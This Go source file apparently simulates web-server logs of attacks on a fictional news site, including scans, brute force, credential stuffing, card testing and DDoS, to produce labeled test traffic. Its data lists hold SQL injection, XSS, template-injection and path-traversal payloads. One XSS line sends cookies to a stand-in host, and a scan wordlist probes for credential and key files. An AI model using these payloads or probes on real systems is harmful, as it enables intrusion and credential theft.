package main

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"

	. "github.com/portcullis/portcullis/tools/internal/simlog"
)

// attacker registers an attacking client. About half imitate browsers: a
// real browser user agent and header size, often from a residential
// proxy, and ordinary reading before they start; the others are scripts
// on rented servers.
func (w *world) attacker(kind string, r *rand.Rand) *actor {
	browser := Chance(r, .5)
	var ip string
	switch {
	case Chance(r, .12):
		ip = w.log.V6In(r, V6Net(r, append(homeV6, "2a03:b0c0:", "2604:a880:400:")))
	case browser && Chance(r, .6):
		ip = w.log.V4(r, homeV4)
	default:
		ip = w.log.V4(r, hostV4)
	}
	a := &actor{w: w, c: w.log.Client(ip, kind), r: r, width: 1200}
	if browser {
		a.ua, a.hdr, a.width = browserUA(r), 600+r.IntN(900), Pick(r, []int{720, 1200, 1600})
	} else {
		a.ua, a.hdr = Pick(r, []string{"python-requests/2.32.3", "Go-http-client/1.1", "curl/8.7.1", "okhttp/4.9.3", "aiohttp/3.9.5", "Scrapy/2.11.2 (+https://scrapy.org)", "Mozilla/5.0", ""}), 120+r.IntN(180)
	}
	return a
}

// cover reads like anyone else before the attack starts, so that the
// client has an ordinary history.
func (w *world) cover(a *actor, t int64) {
	if strings.HasPrefix(a.ua, "Mozilla/5.0 (") && a.chance(.6) {
		w.session(a, t-Sec(Uniform(a.r, 60, 360)), 1+a.r.IntN(3), false)
	}
}

func (w *world) onset(r *rand.Rand, lo, hi float64) int64 {
	return Sec(Uniform(r, lo, hi) * float64(w.W) / 1e9)
}

// join draws how long after a campaign's start one of its addresses
// joins: up to most seconds, and never so late in a short recording that
// the address would only show its preparation.
func (w *world) join(r *rand.Rand, most float64) int64 {
	return Sec(Uniform(r, 0, min(most, .25*float64(w.W)/1e9)))
}

// gap is the time to the next request at rate per second: a fixed beat
// (a loop with a sleep) or a Poisson process (many workers).
func gap(r *rand.Rand, rate float64, steady bool) int64 {
	if steady {
		return Sec(Uniform(r, .9, 1.1) / rate)
	}
	return Sec(r.ExpFloat64() / rate)
}

// flood: one address hammering a few ordinary pages; the cache serves
// them.
func (w *world) flood(r *rand.Rand) {
	a := w.attacker("flood", r)
	t := w.onset(r, .05, .8)
	w.cover(a, t)
	a.atk = true
	rate, steady := LogUniform(r, 10, 150), Chance(r, .5)
	end := t + Sec(min(Uniform(r, 30, 240), 12000/rate))
	pages := []string{"/", w.front(r), w.pick(r).path, w.pick(r).path, "/search?q=" + q(Pick(r, queries))}
	if len(w.lives) > 1 { // a live blog that runs all day
		pages = append(pages, "/live/"+strconv.Itoa(w.lives[1]))
	}
	var targets []string
	for range 1 + r.IntN(4) {
		targets = append(targets, Pick(r, pages))
	}
	for ; t < end; t += gap(r, rate, steady) {
		st := 200
		if a.chance(.03) {
			st = 503
		}
		a.send(t, "GET", Pick(r, targets), rArticle, st, 0)
	}
}

var scanWords = strings.Fields(`/wp-login.php /wp-admin/ /wp-admin/admin-ajax.php /xmlrpc.php /wp-json/wp/v2/users /wp-content/debug.log /wp-config.php.bak /wp-content/uploads/ /ghost/api/admin/site/ /user/login /CHANGELOG.txt /core/install.php /typo3/ /umbraco/ /administrator/ /admin/ /admin/login /cms/ /contrib/admin /contrib/../.env /.env /.env.production /.git/HEAD /.git/config /.svn/entries /.DS_Store /config.php.bak /backup.sql /db.sql.gz /meridian.zip /www.tar.gz /phpmyadmin/ /pma/ /adminer.php /server-status /server-info /phpinfo.php /info.php /api/v1/users /api/v1/admin /api/internal/metrics /api/graphql /graphql /swagger.json /v2/api-docs /actuator/env /actuator/heapdump /jolokia/list /solr/admin/info/system /elasticsearch/_cat/indices /_all_dbs /.aws/credentials /.ssh/id_rsa /id_rsa /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/luci /HNAP1 /boaform/admin/formLogin /media/../../etc/passwd /video/..%2f..%2fetc%2fpasswd /feeds/../config.json /sitemap.xml /robots.txt /crossdomain.xml /.well-known/security.txt /ads.txt`)

func scanStatus(r *rand.Rand, path string) int {
	switch {
	case path == "/robots.txt" || path == "/sitemap.xml" || path == "/ads.txt" || path == "/.well-known/security.txt":
		return 200
	case path == "/contrib/admin" || strings.HasPrefix(path, "/.git") || strings.Contains(path, ".."):
		return Pick(r, []int{403, 400, 404})
	case strings.HasPrefix(path, "/api/"):
		return Pick(r, []int{401, 404, 404})
	}
	return 404
}

// scan: a wordlist of publishing platforms' panels and secrets, then
// variations on backups.
func (w *world) scan(r *rand.Rand) {
	a := w.attacker("scan", r)
	t := w.onset(r, .02, .85)
	w.cover(a, t)
	a.atk = true
	rate, steady := LogUniform(r, .2, 25), Chance(r, .5)
	words := slices.Clone(scanWords)
	if Chance(r, .7) {
		r.Shuffle(len(words), func(i, j int) { words[i], words[j] = words[j], words[i] })
	}
	for i, n := 0, int(LogUniform(r, 40, 900)); i < n && t < w.W; i, t = i+1, t+gap(r, rate, steady) {
		path := words[i%len(words)]
		if i >= len(words) {
			path = "/" + Pick(r, []string{"backup", "old", "news", "meridian", "www", "staging", "dev", "cms"}) + Pick(r, []string{".zip", ".tar.gz", ".sql", "/admin/", "/.env", "/wp-login.php", ".bak", "/config.yml"})
		}
		a.send(t, Pick(r, []string{"GET", "GET", "GET", "GET", "GET", "HEAD", "POST"}), path, rFront, scanStatus(r, path), 0)
	}
}

// bruteforce: password guessing on the paywall sign-in, one guess every
// second to every few seconds.
func (w *world) bruteforce(r *rand.Rand) {
	a := w.attacker("bruteforce", r)
	t := w.onset(r, .05, .8)
	w.cover(a, t)
	path := "/account/signin"
	if Chance(r, .3) {
		ios := Chance(r, .5) // the app's key, taken out of the app
		path, a.ua, a.key = "/app/v4/auth/token", appUA(r, ios), w.appKeys[map[bool]int{true: 0, false: 1}[ios]]
	} else if strings.HasPrefix(a.ua, "Mozilla") {
		a.send(t-Sec(Uniform(r, 1, 6)), "GET", path, rFront, 200, 0)
	}
	a.atk = true
	rate, steady := 1/Uniform(r, 1, 8), Chance(r, .5)
	for end := t + Sec(Uniform(r, 90, 480)); t < end; t += gap(r, rate, steady) {
		st := 401
		if a.chance(.04) {
			st = 403 // the account is locked for a while
		}
		a.send(t, "POST", path, rSignin, st, int64(Uniform(r, 95, 180)))
	}
}

var payloads = [][]string{
	{"' OR '1'='1' -- ", "1' AND SLEEP(5)-- -", "news' UNION SELECT email,password_hash FROM subscribers-- ", "1)) OR 1=1#", "'; DROP TABLE comments;--", "1 AND extractvalue(1,concat(0x7e,version()))", "x' AND 1=(SELECT 1 FROM pg_sleep(4))--"},
	{"<script>alert(document.domain)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=confirm(1)>", "<iframe src=javascript:alert(1)>", "'-alert(1)-'", "<details open ontoggle=fetch('//x.example/?c='+document.cookie)>"},
	{"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{T(java.lang.Runtime).getRuntime().exec('id')}"},
	{"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "....//....//....//etc/hosts", "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "%252e%252e%252fetc%252fpasswd"},
}

// encodePayload writes a payload into a query value as real tools do:
// nearly raw, URL-encoded once, or twice.
func encodePayload(r *rand.Rand, s string) string {
	return EncodeQuery(r, s, rawQuery, .25, .75)
}

// rawQuery escapes what would break a query value written raw.
var rawQuery = strings.NewReplacer(" ", "+", "#", "%23", "&", "%26")

// injection: a signed-in reader in an ordinary session whose search
// terms, comment bodies and query values carry payloads in 15-40% of the
// requests.
func (w *world) injection(r *rand.Rand) {
	a := w.attacker("injection", r)
	a.ua, a.hdr = browserUA(r), 700+r.IntN(800)
	a.name = Pick(r, firstNames) + strconv.Itoa(r.IntN(10000))
	// The sign-in (three tries at most) is over before the first payload,
	// which is sent inside the window.
	t := w.onset(r, .02, .6)
	w.signin(a, t-Sec(Uniform(r, 110, 240)))
	share, classes := Uniform(r, .15, .4), r.Perm(len(payloads))[:1+r.IntN(len(payloads))]
	pace := Uniform(r, 2, 10)
	for i, end := 0, t+Sec(Uniform(r, 120, 600)); t < end && t < w.W; i, t = i+1, t+Sec(r.ExpFloat64()*pace) {
		if a.atk = i == 0 || a.chance(share); !a.atk {
			t = w.screen(a, t)
			continue
		}
		p := encodePayload(r, Pick(r, payloads[Pick(r, classes)]))
		st := Pick(r, []int{200, 200, 200, 400, 400, 500})
		art := w.pick(r)
		switch r.IntN(7) {
		case 0, 1:
			a.send(t, "GET", "/search?q="+p, rSearch, st, 0)
		case 2:
			a.send(t, "GET", "/news/"+Pick(r, w.sections)+"?page="+p, rFront, st, 0)
		case 3:
			a.send(t, "GET", fmt.Sprintf("/api/comments/%d?page=1&sort=%s", art.id, p), rComments, st, 0)
		case 4:
			if live := w.liveAt(r, t); live != 0 {
				a.send(t, "GET", fmt.Sprintf("/api/live/%d/updates?since=%s", live, p), rLive, st, 0)
				break
			}
			fallthrough
		case 5:
			a.send(t, "GET", "/feeds/"+Pick(r, w.sections)+".xml?tag="+p, rFeed, st, 0)
		default: // the payload is in the comment body
			a.send(t, "POST", fmt.Sprintf("/api/comments/%d", art.id), rPost, Pick(r, []int{201, 400, 403}), int64(Uniform(r, 200, 1500)))
		}
	}
}

// upload: someone with a community contributor account, or anyone with a
// comment account, sends clips far larger than any picture, a few times a
// minute.
func (w *world) upload(r *rand.Rand) {
	a := w.attacker("upload", r)
	a.user = "contrib_" + Hex(r, 8)
	path, limit := "/contrib/uploads", w.uploadLimit
	if Chance(r, .4) {
		a.user, limit = Pick(r, firstNames)+strconv.Itoa(r.IntN(10000)), 25<<20
		path = fmt.Sprintf("/api/comments/%d/attachments", w.pick(r).id)
	}
	t := w.onset(r, .02, .7)
	w.cover(a, t)
	a.atk = true
	per := Uniform(r, 2, 6) / 60
	for end := t + Sec(Uniform(r, 180, 600)); t < end && t < w.W; t += Sec(r.ExpFloat64() / per) {
		body := int64(LogUniform(r, 20, 500) * (1 << 20))
		st := 201
		if body > limit {
			st = 413
		}
		a.send(t, "POST", path, rUpload, st, body)
	}
}

// enumeration: walks the public API's article ids with a free developer
// key, or the premium bodies, one id after another; some walkers hide the
// walk inside ordinary reading.
func (w *world) enumeration(r *rand.Rand) {
	a := w.attacker("enumeration", r)
	t := w.onset(r, .02, .75)
	w.cover(a, t)
	a.atk = true
	rate, steady := LogUniform(r, .3, 8), Chance(r, .5)
	mode, step := r.IntN(3), Pick(r, []int{1, 1, 1, -1})
	path, id := "/api/article/%d/body", w.maxID-r.IntN(20000)
	switch mode {
	case 0:
		path, a.key = "/api/v1/articles/%d", "pk_"+Hex(r, 16)
	case 1: // only premium ids, read off the sitemaps, so no 404
		step = 0
	default:
		a.ua, a.hdr, rate = browserUA(r), 800+r.IntN(600), Uniform(r, .2, .8)
	}
	for i, n := 0, int(LogUniform(r, 60, 1500)); i < n && t < w.W; i, t = i+1, t+gap(r, rate, steady) {
		if mode == 1 {
			for id++; w.byID[id] == nil || !w.byID[id].premium; id++ {
				if id > w.maxID {
					id -= 20000
				}
			}
		}
		if mode == 2 && i > 0 && a.chance(.5) {
			a.atk = false
			t = w.screen(a, t)
			a.atk = true
		}
		st := 404
		if art := w.byID[id]; art != nil {
			st = map[bool]int{true: 403, false: 200}[art.premium]
		}
		a.send(t, "GET", fmt.Sprintf(path, id), rJSON, st, 0)
		id += step
	}
}

// campaignID draws the name shared by the members of one campaign.
func campaignID(r *rand.Rand, kind string) string { return kind + "-" + Hex(r, 6) }

// member registers one address of a campaign: a residential or mobile
// proxy with a browser user agent.
func (w *world) member(r *rand.Rand, kind, id string) *actor {
	sr := Sub(r)
	var ip string
	if Chance(sr, .18) {
		ip = w.log.V6In(sr, V6Net(sr, append(homeV6, mobileV6...)))
	} else {
		ip = w.log.V4(sr, append(homeV4, carrierV4...))
	}
	a := &actor{w: w, c: w.log.Client(ip, kind), r: sr, ua: browserUA(sr), hdr: 600 + sr.IntN(900), width: Pick(sr, []int{720, 1200}), atk: true}
	a.c.Campaign = id
	return a
}

// stuffing: leaked credentials tried against the paywall from a proxy
// pool, one attempt per address every 15-90 s, so that no address is busy.
func (w *world) stuffing(r *rand.Rand) {
	id := campaignID(r, "stuffing")
	begin, span := w.onset(r, .02, .45), Sec(Uniform(r, 240, 600))
	for range 30 + r.IntN(71) {
		a := w.member(r, "stuffing", id)
		t := begin + w.join(a.r, 60)
		if a.chance(.4) {
			a.atk = false
			a.send(t-Sec(Uniform(a.r, 1, 5)), "GET", "/account/signin", rFront, 200, 0)
			a.atk = true
		}
		every := Uniform(a.r, 15, 90)
		for ; t < begin+span; t += Sec(every * Uniform(a.r, .8, 1.2)) {
			st := Pick(a.r, []int{401, 401, 401, 401, 401, 401, 403})
			if a.chance(.03) {
				st = 200
			}
			a.send(t, "POST", "/account/signin", rSignin, st, int64(Uniform(a.r, 95, 180)))
			if st == 200 {
				a.send(t+Sec(.7), "GET", "/", rFront, 200, 0)
			}
		}
	}
}

// cardtest: stolen cards checked by buying the cheapest plan; each
// address reads a page or three, then tries a card every 10-40 s, mostly
// declined.
func (w *world) cardtest(r *rand.Rand) {
	id := campaignID(r, "cardtest")
	begin, span := w.onset(r, .02, .5), Sec(Uniform(r, 180, 480))
	plan := Pick(r, []string{"digital-monthly", "student", "trial-1-euro"})
	for range 20 + r.IntN(21) {
		a := w.member(r, "cardtest", id)
		t := begin + w.join(a.r, 90)
		a.atk = false
		for pre, k := t-Sec(Uniform(a.r, 60, 200)), 1+a.r.IntN(3); k > 0 && pre < t-Sec(20); k-- {
			pre = w.read(a, pre, w.pick(a.r), false) + Sec(Uniform(a.r, 2, 15))
		}
		a.send(t-Sec(Uniform(a.r, 5, 15)), "GET", "/subscribe?plan="+plan, rFront, 200, 0)
		a.atk = true
		every := Uniform(a.r, 10, 40)
		for ; t < begin+span; t += Sec(every * Uniform(a.r, .8, 1.2)) {
			st := 402
			switch x := a.r.Float64(); {
			case x < .06:
				st = 201
			case x < .14:
				st = 400
			}
			a.send(t, "POST", "/api/subscribe", rPay, st, int64(Uniform(a.r, 500, 900)))
		}
	}
}

// commentSpam: bought accounts post links under the most read articles
// from many addresses, each every 20-60 s; the link filter rejects many
// and the rate limit more. It is labeled stuffing: like credential
// stuffing it is a form abused from a proxy pool, a little per address.
func (w *world) commentSpam(r *rand.Rand) {
	id := campaignID(r, "commentspam")
	begin, span := w.onset(r, .05, .6), Sec(Uniform(r, 150, 420))
	var targets []*article
	for range 2 + r.IntN(5) {
		targets = append(targets, w.pick(r))
	}
	for range 25 + r.IntN(60) {
		a := w.member(r, "stuffing", id)
		a.user = Pick(a.r, firstNames) + "_" + strconv.Itoa(a.r.IntN(100000))
		t := begin + w.join(a.r, 120)
		if a.chance(.5) {
			a.atk = false
			a.send(t-Sec(Uniform(a.r, 2, 10)), "GET", Pick(a.r, targets).path, rArticle, 200, 0)
			a.atk = true
		}
		every := Uniform(a.r, 20, 60)
		for end := t + Sec(Uniform(a.r, 60, float64(span)/1e9)); t < end; t += Sec(every * Uniform(a.r, .8, 1.2)) {
			st := 201
			if a.chance(.5) {
				st = 403
			}
			a.send(t, "POST", "/api/comments/"+strconv.Itoa(Pick(a.r, targets).id), rPost, st, int64(Uniform(a.r, 300, 1400)))
		}
	}
}

// ddos: a botnet joins the breaking news spike, each address at a modest
// rate on the very pages the crowd reads, so the attack hides in it.
func (w *world) ddos(r *rand.Rand) {
	id := campaignID(r, "ddos")
	begin := w.spike.a + Sec(Uniform(r, 0, .5)*float64(w.spike.b-w.spike.a)/1e9)
	span := Sec(Uniform(r, 60, 180))
	live := strconv.Itoa(w.lives[0])
	targets := []string{"/", "/live/" + live, Pick(r, w.breaking).path, Pick(r, w.breaking).path}
	for range 100 + r.IntN(101) {
		a := w.member(r, "ddos", id)
		if a.chance(.3) {
			a.ua = Pick(a.r, []string{"", "Mozilla/5.0", "python-requests/2.31.0", "Go-http-client/1.1"})
		}
		rate := Uniform(a.r, .3, 2)
		for t := begin + Sec(Uniform(a.r, 0, 20)); t < begin+span; t += Sec(a.r.ExpFloat64() / rate) {
			st := 200
			if a.chance(.05) {
				st = 503
			}
			if a.chance(.2) {
				a.send(t, "GET", "/api/live/"+live+"/updates?since="+w.clock(t-Sec(Uniform(a.r, 5, 60))), rLive, st, 0)
				continue
			}
			a.send(t, "GET", Pick(a.r, targets), rArticle, st, 0)
		}
	}
}
